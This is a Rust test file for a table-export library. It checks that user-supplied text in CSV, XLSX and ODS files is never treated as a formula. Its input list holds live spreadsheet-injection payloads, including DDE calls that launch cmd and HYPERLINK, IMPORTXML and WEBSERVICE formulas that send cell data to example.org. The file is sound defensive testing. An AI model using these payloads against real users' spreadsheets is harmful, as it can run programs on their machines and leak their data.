//! What people may type must come back as text from all three formats.
#![expect(clippy::unwrap_used, reason = "a test that cannot be prepared has failed")]

use std::io::{Cursor, Read};

use calamine::{Data, Ods, Reader, Xlsx};
use chrono::NaiveDate;
use tabular_export::{Bom, Cell, Format, Table, csv, write};

/// Formulas, fields that start programs, tricks with blanks, quotes, separators
/// and line ends, markup, and signs that XML cannot hold.
const HOSTILE: [&str; 76] = [
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
    "=IMPORTXML(CONCAT(\"//example.org?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.org\")",
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "=1+1;=2+2",
    "={1,2}",
    "+1+1",
    "+31 38 498 2222",
    "+cmd|'/C calc'!A0",
    "-1",
    "-1+1+cmd|'/C calc'!A0",
    "-2+3",
    "--1",
    "@SUM(1+1)",
    "@A1",
    "@NOW()",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t",
    "\r",
    "\n",
    " =1+1",
    "   =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\"=1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "'=1+1",
    "''=1+1",
    "koffie;=1+1",
    "koffie; =1+1",
    "koffie\t=1+1",
    "koffie,=1+1",
    "koffie\n=1+1",
    "koffie\r\n+1",
    "koffie\"\n\"=1+1",
    "a;\"=1+1\"",
    "a\",=1+1,\"b",
    "a\";=1+1;\"b",
    "%0A=1+1",
    "sep=;",
    "<f>1+1</f>",
    "<c t=\"str\"><f>1</f></c>",
    "</t></is></c><c><f>1</f></c>",
    "]]><f>1</f>",
    "&lt;f&gt;",
    "&#61;1+1",
    "&equals;1",
    "<table:table-cell table:formula=\"of:=1+1\"/>",
    "</text:p></table:table-cell>",
    "_x003D_1+1",
    "_x0000_",
    "x_x000D_y",
    "\u{0}=1+1",
    "\u{1}\u{b}\u{1f}",
    "\u{fffe}\u{ffff}",
    "\u{202e}=1+1",
    "a  b   c",
    "  voor en na  ",
    "a\t\tb",
    "\u{1F600}=",
    "{=1+1}",
    "=",
];

fn table() -> Table {
    let mut table = Table::new("=1+1", ["=kop", "getal"]).unwrap();
    for text in HOSTILE {
        table.push(vec![text.into(), Cell::Whole(-7)]).unwrap();
    }
    table
}

fn file(format: Format) -> Vec<u8> {
    write(&table(), format, NaiveDate::from_ymd_opt(2026, 3, 2).unwrap()).unwrap()
}

/// What must be read back: one kind of line end, unwritable signs replaced.
fn kept(text: &str) -> String {
    let lines = text.replace("\r\n", "\n").replace('\r', "\n");
    lines
        .chars()
        .map(|sign| match sign {
            '\t' | '\n' => sign,
            '\u{fffe}' | '\u{ffff}' => '\u{fffd}',
            _ if u32::from(sign) < 32 => '\u{fffd}',
            _ => sign,
        })
        .collect()
}

fn parts(file: Vec<u8>) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(file)).unwrap();
    let mut parts = Vec::new();
    for number in 0..zip.len() {
        let mut part = zip.by_index(number).unwrap();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        parts.push((part.name().unwrap().into_owned(), text));
    }
    parts
}

#[test]
fn a_csv_reader_finds_no_formula_and_every_text() {
    let bytes = csv(&table(), Bom::Without).unwrap();
    let mut reader = ::csv::Reader::from_reader(bytes.as_slice());
    assert_eq!(reader.headers().unwrap(), vec!["'=kop", "getal"]);
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), HOSTILE.len());
    for (text, row) in HOSTILE.iter().zip(&rows) {
        let cell = &row[0];
        let first = cell.chars().find(|sign| !" \u{a0}\u{3000}\u{200b}\u{feff}\u{202e}".contains(*sign));
        assert!(!first.is_some_and(|sign| "=+-@\t\r\n＝＋－＠".contains(sign)), "{text:?} became {cell:?}");
        assert_eq!(cell.replace('\'', ""), kept(text).replace('\'', ""), "{text:?}");
        assert_eq!(&row[1], "-7", "numbers stay numbers");
    }
}

#[test]
fn a_program_that_splits_csv_at_other_separators_finds_no_formula_either() {
    for separator in [b';', b'\t', b'|'] {
        let bytes = csv(&table(), Bom::Without).unwrap();
        for quoting in [true, false] {
            let mut reader = ::csv::ReaderBuilder::new()
                .delimiter(separator)
                .quoting(quoting)
                .flexible(true)
                .from_reader(bytes.as_slice());
            let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
            assert!(rows.len() >= HOSTILE.len() / 2, "{}", rows.len());
            for row in &rows {
                for field in row {
                    let first = field.trim().trim_matches('"').chars().next();
                    assert!(!first.is_some_and(|sign| "=+@".contains(sign)), "{field:?}");
                }
            }
        }
    }
}

#[test]
fn a_spreadsheet_program_finds_no_formula_in_the_workbook_and_every_text() {
    let file = file(Format::Xlsx);
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(file.clone())).unwrap();
    let sheet = book.sheet_names()[0].clone();
    assert_eq!(book.worksheet_formula(&sheet).unwrap().used_cells().count(), 0);
    let cells = book.worksheet_range(&sheet).unwrap();
    for (row, text) in (1_u32..).zip(HOSTILE) {
        assert_eq!(cells.get_value((row, 0)), Some(&Data::String(kept(text))), "{text:?}");
        assert_eq!(cells.get_value((row, 1)), Some(&Data::Float(-7.0)));
    }
    for (name, xml) in parts(file) {
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{name}");
    }
}

#[test]
fn a_spreadsheet_program_finds_no_formula_in_open_document_and_every_text() {
    let file = file(Format::Ods);
    let mut book: Ods<_> = Ods::new(Cursor::new(file.clone())).unwrap();
    let sheet = book.sheet_names()[0].clone();
    assert_eq!(book.worksheet_formula(&sheet).unwrap().used_cells().count(), 0);
    let cells = book.worksheet_range(&sheet).unwrap();
    for (row, text) in (1_u32..).zip(HOSTILE) {
        let expected = Data::String(kept(text));
        assert_eq!(cells.get_value((row, 0)), Some(&expected), "{text:?}");
        assert_eq!(cells.get_value((row, 1)), Some(&Data::Float(-7.0)));
    }
    for (name, xml) in parts(file) {
        assert!(!xml.contains("<table:table-cell table:formula"), "{name}");
    }
}

#[test]
fn open_document_begins_with_its_uncompressed_media_type() {
    let file = file(Format::Ods);
    assert_eq!(&file[30..38], b"mimetype");
    let media_type = Format::Ods.media_type().as_bytes();
    assert_eq!(&file[38..38 + media_type.len()], media_type);
}
